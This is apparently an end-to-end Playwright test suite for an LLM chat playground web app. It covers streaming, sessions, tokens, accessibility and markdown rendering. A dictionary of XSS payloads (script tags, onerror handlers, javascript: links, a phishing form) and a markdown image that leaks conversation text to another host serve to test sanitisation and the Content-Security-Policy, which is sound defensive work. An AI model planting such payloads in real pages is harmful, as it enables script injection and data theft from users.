"""The playground in a real browser (Chromium) against gunicorn and the fake upstream."""

import re
import threading
import urllib.parse

import pytest

from chatgate.models import MODELS
from tests.support.browser import OUTPUT
from tests.support.identity_provider import AUDIENCE, IdentityProvider
from tests.support.keys import secret
from tests.support.processes import gunicorn, service_env

TOKEN = secret("tok-playground-" + "p" * 24)
WORDS = "one two three four five six"
MARKDOWN = """# Plan

Use **bold**, `inline code` and a [link](https://example.com/docs).

- first
- second

| name | size |
| --- | --- |
| a | 1 |

```python
def greet(name):
    return f"Hello, {name}"  # a comment
```"""


@pytest.fixture(scope="module")
def server(fake_upstream, tmp_path_factory):
    with gunicorn(tmp_path_factory.mktemp("playground"), service_env(fake_upstream.base_url)) as live:
        yield live


@pytest.fixture
def playground(page, server, upstream):
    page.goto(f"{server.url}/playground")
    models_loaded(page)
    return page


def record_reply_growth(page):
    """Note the reply's text at every change the page makes to the conversation."""
    page.evaluate("""() => {
        window.seen = [];
        new MutationObserver(() => {
            const replies = document.querySelectorAll('#conversation li.assistant .content');
            if (replies.length) window.seen.push(replies[replies.length - 1].textContent);
        }).observe(document.getElementById('conversation'), {childList: true, subtree: true, characterData: true});
    }""")


def models_loaded(page) -> None:
    page.wait_for_function("() => document.querySelectorAll('#model option').length > 0")


def replied(page, turns: int) -> None:
    """Wait until the conversation has `turns` turns and the page can send again."""
    page.wait_for_function(
        f"() => document.querySelectorAll('#conversation > li').length === {turns}"
        " && document.getElementById('send').disabled === false"
    )


def send(page, text):
    page.fill("#message", text)
    page.press("#message", "Enter")


def last_reply(page):
    return page.locator("#conversation li.assistant .content").last


def test_the_model_picker_is_the_catalogue(playground):
    options = playground.locator("#model option").all_text_contents()
    assert options == list(MODELS)
    assert playground.locator("#model").input_value() == "gpt-4o-mini"


def test_the_reply_grows_in_steps_and_shows_usage(playground, upstream):
    record_reply_growth(playground)
    with upstream.behave(reply=WORDS, chunk_delay=0.1):
        send(playground, "Count to six")
        playground.wait_for_function("() => document.getElementById('usage').textContent.includes('total')")
    assert last_reply(playground).text_content() == WORDS
    growth = [text for text in dict.fromkeys(playground.evaluate("window.seen")) if text]
    assert len(growth) >= 4, growth
    assert all(later.startswith(earlier) for earlier, later in zip(growth, growth[1:], strict=False))
    assert playground.locator("#usage").text_content() == "Tokens: 3 prompt · 6 completion · 9 total"
    sent = upstream.last_chat_body()
    assert sent["model"] == "gpt-4o-mini" and sent["messages"][-1] == {"role": "user", "content": "Count to six"}


def test_the_conversation_and_system_prompt_go_with_the_next_message(playground, upstream):
    playground.fill("#system", "Be brief.")
    playground.select_option("#model", "gpt-4o")
    send(playground, "first")
    replied(playground, 2)
    send(playground, "second")
    replied(playground, 4)
    assert upstream.last_chat_body()["messages"] == [
        {"role": "system", "content": "Be brief."},
        {"role": "user", "content": "first"},
        {"role": "assistant", "content": "Hello from the fake upstream."},
        {"role": "user", "content": "second"},
    ]
    assert upstream.last_chat_body()["model"] == "gpt-4o"


def test_stop_closes_the_upstream_stream(playground, upstream):
    with upstream.behave(reply=" ".join(f"w{n}" for n in range(200)), chunk_delay=0.05):
        send(playground, "Talk for a long time")
        playground.wait_for_function(
            "() => document.querySelector('#conversation li.assistant .content')?.textContent.includes('w3')"
        )
        playground.click("#stop")
        assert upstream.stream_aborted.wait(15), "the upstream stream stayed open after Stop"
    assert last_reply(playground).text_content().endswith("[stopped]")
    assert playground.locator("#send").is_enabled()


@pytest.mark.parametrize(
    "fault, shown",
    [
        (dict(status=429, retry_after="1"), re.compile(r"^Error 429: The upstream is rate limiting requests")),
        (dict(status=500), re.compile(r"^Error 502: The upstream failed with status 500")),
    ],
)
def test_an_upstream_failure_is_shown_in_plain_words(playground, upstream, fault, shown):
    upstream.queue(**fault)
    send(playground, "hello")
    playground.wait_for_selector("#error:not([hidden])")
    assert shown.match(playground.locator("#error").text_content())


def test_a_failure_mid_stream_is_shown(playground, upstream):
    for _ in range(3):  # the reply and both continuations STREAM_MAX_CONTINUATIONS allows are cut: it fails
        upstream.queue(cut_after=2, reply="a b c d")
    send(playground, "hello")
    playground.wait_for_selector("#error:not([hidden])")
    assert "cut in the middle" in playground.locator("#error").text_content()


def test_server_side_sessions_carry_the_conversation(playground, upstream):
    playground.check("#use-sessions")
    send(playground, "I am Ada")
    playground.wait_for_function(
        "() => document.getElementById('session').textContent.startsWith('Session ')"
        " && document.getElementById('send').disabled === false"
    )
    send(playground, "Who am I?")
    replied(playground, 4)
    chats = upstream.chat_requests()
    assert len(chats) == 2
    assert chats[-1].body["messages"] == [
        {"role": "system", "content": "You are a helpful assistant."},
        {"role": "user", "content": "I am Ada"},
        {"role": "assistant", "content": "Hello from the fake upstream."},
        {"role": "user", "content": "Who am I?"},
    ]


def test_a_service_token_opens_a_guarded_service(page, upstream, tmp_path):
    with gunicorn(tmp_path, service_env(upstream.base_url, API_TOKENS=TOKEN)) as guarded:
        page.goto(f"{guarded.url}/playground")
        page.wait_for_selector("#error:not([hidden])")
        assert page.locator("#error").text_content().startswith("Error 401: A valid service token is required")
        page.fill("#token", TOKEN)
        page.press("#token", "Tab")  # the change event reloads the models with the token
        models_loaded(page)
        send(page, "hello")
        page.wait_for_function(
            "() => document.querySelector('#conversation li.assistant .content')?.textContent"
            " === 'Hello from the fake upstream.'"
        )
        assert upstream.chat_requests()[-1].headers["Authorization"].startswith("Bearer sk-server-")
        assert TOKEN not in guarded.log()


def test_usable_by_keyboard_on_a_phone_width_screen(page, server, upstream):
    page.set_viewport_size({"width": 375, "height": 700})
    page.goto(f"{server.url}/playground")
    models_loaded(page)
    assert page.evaluate("document.scrollingElement.scrollWidth") <= 375
    # The settings fold away: the message box is in view without scrolling.
    assert page.evaluate("document.getElementById('settings').open") is False
    assert page.evaluate("document.getElementById('message').getBoundingClientRect().bottom") <= 700
    page.click("#settings summary")
    focused = []
    for _ in range(20):
        page.keyboard.press("Tab")
        focused.append(page.evaluate("document.activeElement.id || document.activeElement.tagName"))
    assert {
        "model",
        "system",
        "temperature",
        "max-tokens",
        "token",
        "forget",
        "use-sessions",
        "new-conversation",
        "message",
        "send",
        "theme",
    } <= set(focused)
    page.focus("#message")
    page.keyboard.type("first line")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("second line")
    page.keyboard.press("Enter")
    page.wait_for_function(
        "() => document.querySelector('#conversation li.assistant .content')?.textContent"
        " === 'Hello from the fake upstream.'"
    )
    assert upstream.last_chat_body()["messages"][-1]["content"] == "first line\nsecond line"
    assert page.evaluate("document.scrollingElement.scrollWidth") <= 375


@pytest.mark.parametrize("path, rendered", [("/docs", ".opblock"), ("/redoc", "[data-section-id]")])
def test_the_docs_render_with_the_network_cut_off(page, server, path, rendered):
    def elsewhere(url):
        return urllib.parse.urlsplit(url).hostname != "127.0.0.1"

    attempted = []  # every request the page makes, even one its Content-Security-Policy refuses
    page.on("request", lambda request: attempted.append(request.url) if elsewhere(request.url) else None)
    page.route("**/*", lambda route: route.abort() if elsewhere(route.request.url) else route.continue_())
    page.goto(f"{server.url}{path}")
    page.wait_for_selector(rendered, timeout=30000)
    page.wait_for_load_state("networkidle")
    assert attempted == []
    assert page.get_by_text("/v1/chat/completions").count() > 0


def test_a_reload_mid_answer_finishes_the_answer(playground, upstream):
    release = threading.Event()
    with upstream.behave(reply=WORDS, wait_for=release, hold_after=2):
        send(playground, "Count to six")
        playground.wait_for_function(
            "() => document.querySelector('#conversation li.assistant .content')?.textContent === 'one two'"
        )
        playground.reload()  # the answer is still being written upstream
        playground.wait_for_function(
            "() => document.querySelector('#conversation li.assistant .content')?.textContent === 'one two'"
        )
        release.set()
        playground.wait_for_function(
            f"() => document.querySelector('#conversation li.assistant .content')?.textContent === {WORDS!r}"
        )
    assert playground.locator("#conversation li.user .content").all_text_contents() == ["Count to six"]
    assert len(upstream.chat_requests()) == 1  # picked up where it was, not asked again


def test_temperature_and_max_tokens_go_with_the_message(playground, upstream):
    playground.fill("#temperature", "0.3")
    playground.fill("#max-tokens", "50")
    send(playground, "hello")
    replied(playground, 2)
    sent = upstream.last_chat_body()
    assert sent["temperature"] == 0.3 and sent["max_tokens"] == 50


def test_settings_and_the_token_survive_a_reload_until_forgotten(playground, upstream):
    playground.fill("#system", "Be brief.")
    playground.fill("#temperature", "0.7")
    playground.fill("#token", "tok-remembered")
    playground.press("#token", "Tab")
    playground.reload()
    models_loaded(playground)
    assert (
        playground.input_value("#system"),
        playground.input_value("#temperature"),
        playground.input_value("#token"),
    ) == ("Be brief.", "0.7", "tok-remembered")
    playground.click("#forget")
    playground.reload()
    models_loaded(playground)
    assert (playground.input_value("#system"), playground.input_value("#token")) == ("", "")


def test_dark_mode_follows_the_system_and_the_toggle(browser, server):
    context = browser.new_context(color_scheme="dark")
    dark_page = context.new_page()
    dark_page.goto(f"{server.url}/playground")
    background = "getComputedStyle(document.body).backgroundColor"
    assert dark_page.evaluate("document.documentElement.dataset.theme") == "dark"
    dark = dark_page.evaluate(background)
    dark_page.click("#theme")
    assert dark_page.evaluate("document.documentElement.dataset.theme") == "light"
    assert dark_page.evaluate(background) != dark
    dark_page.reload()
    assert dark_page.evaluate("document.documentElement.dataset.theme") == "light"  # the choice is kept
    OUTPUT.mkdir(exist_ok=True)
    dark_page.screenshot(path=str(OUTPUT / "playground-light-after-toggle.png"), full_page=True)
    context.close()


def test_a_401_points_at_the_token_field(page, upstream, tmp_path):
    with gunicorn(tmp_path, service_env(upstream.base_url, API_TOKENS=TOKEN)) as guarded:
        page.goto(f"{guarded.url}/playground")
        page.wait_for_selector("#error:not([hidden])")
        assert page.locator("#error").text_content().endswith("Put your service token in the Service token field.")
        assert page.evaluate("document.activeElement.id") == "token"


def test_a_429_says_when_to_try_again(playground, upstream):
    upstream.queue(status=429, retry_after="7")
    send(playground, "hello")
    playground.wait_for_selector("#error:not([hidden])")
    assert playground.locator("#error").text_content().endswith("Try again in 7 s.")


def test_the_conversation_survives_a_reload_and_view_code_shows_it(playground, upstream):
    send(playground, "Remember me")
    replied(playground, 2)
    playground.fill("#token", "tok-secret-" + "z" * 20)
    playground.reload()
    playground.wait_for_function("() => document.querySelectorAll('#conversation > li').length === 2")
    assert playground.locator("#conversation li .content").all_text_contents() == [
        "Remember me",
        "Hello from the fake upstream.",
    ]
    playground.click("#code summary")
    playground.wait_for_function("() => document.getElementById('code-curl').textContent !== ''")
    curl = playground.locator("#code-curl").text_content()
    python = playground.locator("#code-python").text_content()
    assert '"content":"Remember me"' in curl and "/v1/chat/completions" in curl
    assert "client.chat.completions.create" in python and '"Hello from the fake upstream."' in python
    assert "z" * 20 not in curl + python + playground.locator("#code-js").text_content()  # the token never
    assert "Hello!" not in curl  # only turns the user had: an empty message box adds none
    playground.fill("#message", "And now?")
    playground.click("#code summary")
    playground.click("#code summary")
    playground.wait_for_function("() => document.getElementById('code-curl').textContent.includes('And now?')")
    playground.click("#new-conversation")
    playground.reload()
    models_loaded(playground)
    assert playground.locator("#conversation > li").count() == 0


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1100, 375])
def test_screenshots_for_review(browser, server, upstream, scheme, width):
    context = browser.new_context(color_scheme=scheme, viewport={"width": width, "height": 800})
    shot = context.new_page()
    shot.goto(f"{server.url}/playground")
    models_loaded(shot)
    with upstream.behave(reply=MARKDOWN):
        send(shot, "Show me a short answer")
        replied(shot, 2)
    assert shot.evaluate("document.documentElement.dataset.theme") == scheme
    assert shot.evaluate("document.scrollingElement.scrollWidth") <= width
    OUTPUT.mkdir(exist_ok=True)
    shot.screenshot(path=str(OUTPUT / f"playground-{scheme}-{width}px.png"), full_page=True)
    context.close()


def test_markdown_is_rendered_while_it_streams(playground, upstream):
    release = threading.Event()
    with upstream.behave(reply=MARKDOWN, wait_for=release, hold_after=8):
        send(playground, "Plan it")
        playground.wait_for_function("() => document.querySelector('#conversation li.assistant .content strong')")
        assert playground.locator("#send").is_disabled()  # drawn as markdown before the reply ends
        release.set()
        replied(playground, 2)
    reply = last_reply(playground)
    assert reply.locator("h1").text_content() == "Plan"
    assert reply.locator("strong").text_content() == "bold"
    assert reply.locator(":not(pre) > code").text_content() == "inline code"
    assert reply.locator("li").all_text_contents() == ["first", "second"]
    assert reply.locator("td").all_text_contents() == ["a", "1"]
    link = reply.locator("a")
    assert (link.get_attribute("href"), link.get_attribute("rel"), link.get_attribute("target")) == (
        "https://example.com/docs",
        "noopener noreferrer nofollow",
        "_blank",
    )
    code = reply.locator("pre code")
    assert code.text_content() == 'def greet(name):\n    return f"Hello, {name}"  # a comment\n'
    assert code.locator(".hljs-keyword").first.text_content() == "def"  # highlighted as Python
    assert code.locator(".hljs-comment").text_content() == "# a comment"


def test_a_code_block_copies_its_code(browser, server, upstream):
    context = browser.new_context()
    context.grant_permissions(["clipboard-read", "clipboard-write"], origin=server.url)
    tab = context.new_page()
    tab.goto(f"{server.url}/playground")
    models_loaded(tab)
    with upstream.behave(reply="Run:\n\n```sh\ncurl -s localhost:5000/health\n```"):
        send(tab, "How do I check it?")
        replied(tab, 2)
    tab.click(".code-block .copy")
    assert tab.evaluate("navigator.clipboard.readText()") == "curl -s localhost:5000/health"
    assert tab.locator(".code-block .copy").text_content() == "Copied"
    context.close()


# Model output is untrusted: each of these, in a reply, must neither run nor leave anything in the page that could.
# With DOMPurify taken out, every row but "image title breaking out" (which marked escapes itself) fails.
XSS = {
    "img onerror": '<img src=x onerror="window.pwned=1">',
    "script tag": "<script>window.pwned=1</script>",
    "javascript: link": "[press me](javascript:window.pwned=1)",
    "javascript: link in HTML": '<a href="javascript:window.pwned=1">press me</a>',
    "entity-encoded javascript: link": "[press me](&#106;avascript:window.pwned=1)",
    "svg script": "<svg><script>window.pwned=1</script></svg>",
    "svg onload": '<svg onload="window.pwned=1"></svg>',
    "iframe srcdoc": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "image title breaking out": '![x](x "a" onerror="window.pwned=1")',
    "details ontoggle": "<details open ontoggle=window.pwned=1><summary>x</summary></details>",
    "form action": '<form action="javascript:window.pwned=1"><button>press me</button></form>',
    "phishing form": '<form action="/playground"><input name=token placeholder="Your token"><button>Go</button></form>',
    "style attribute": '<p style="position:fixed;inset:0;background:red">covered</p>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:window.pwned=1">',
    "markdown around HTML": '**bold** <b onmouseover="window.pwned=1">hover</b> `x`',
}


@pytest.mark.parametrize("payload", XSS.values(), ids=XSS.keys())
def test_a_hostile_reply_runs_nothing(playground, upstream, payload):
    with upstream.behave(reply=payload):
        send(playground, "Say something nasty")
        replied(playground, 2)
    reply = last_reply(playground)
    for clickable in reply.locator("a, button, summary, b").all():
        clickable.click(no_wait_after=True)
        clickable.hover()
    playground.reload()  # the reply is drawn again from the kept history
    models_loaded(playground)
    replied(playground, 2)
    reply = last_reply(playground)
    assert playground.evaluate("window.pwned") is None
    assert playground.url.endswith("/playground")
    found = reply.evaluate("""(element) => [...element.querySelectorAll('*')].flatMap((node) =>
        [node.tagName, ...[...node.attributes].map((a) => `${a.name}=${a.value}`)])""")
    dangerous = [
        item
        for item in found
        if re.match(r"(?i)(SCRIPT|IFRAME|META|FORM|INPUT|STYLE|on\w+=|style=|.*javascript:)", item)
    ]
    assert dangerous == []


def test_a_reply_cannot_send_the_conversation_to_another_host(playground, upstream):
    # The fake upstream stands in for the attacker's server: another origin, and a real one that counts requests.
    pixel = f"{upstream.base_url}/pixel.png?q=the+secret+plan"
    violations = playground.evaluate_handle("""() => { const seen = [];
        document.addEventListener('securitypolicyviolation', (event) => seen.push(event.blockedURI)); return seen; }""")
    with upstream.behave(reply=f"![status]({pixel})"):
        send(playground, "The secret plan")
        replied(playground, 2)
    playground.wait_for_function("(seen) => seen.length > 0", arg=violations)
    assert violations.json_value() == [pixel]
    assert last_reply(playground).locator("img").get_attribute("src") == pixel  # markdown kept, the load refused
    assert upstream.requests_to("GET", "/pixel.png") == []


def test_a_server_without_a_key_is_explained_once(page, upstream, tmp_path):
    env = service_env(upstream.base_url, OPENAI_API_KEY_CYB_SEC="", ALLOW_CLIENT_KEYS="false")
    with gunicorn(tmp_path, env) as keyless:
        page.goto(f"{keyless.url}/playground")
        models_loaded(page)
        send(page, "hello")
        page.wait_for_selector("#error:not([hidden])")
        shown = page.locator("#error").text_content()
    assert shown.startswith("Error 503: No upstream API key is configured")
    assert shown.count("OPENAI_API_KEY_CYB_SEC") == 1


def test_a_signed_in_users_token_opens_the_playground_too(page, upstream, tmp_path):
    provider = IdentityProvider().start()
    try:
        env = service_env(upstream.base_url, JWT_ISSUER=provider.issuer, JWT_AUDIENCE=AUDIENCE)
        with gunicorn(tmp_path, env) as guarded:
            page.goto(f"{guarded.url}/playground")
            page.wait_for_selector("#error:not([hidden])")
            token = provider.token("ada")
            page.fill("#token", token)
            page.press("#token", "Tab")
            models_loaded(page)
            send(page, "hello")
            replied(page, 2)
            assert last_reply(page).text_content() == "Hello from the fake upstream."
            log = guarded.log()
        assert "user:ada" in log and token not in log
    finally:
        provider.stop()
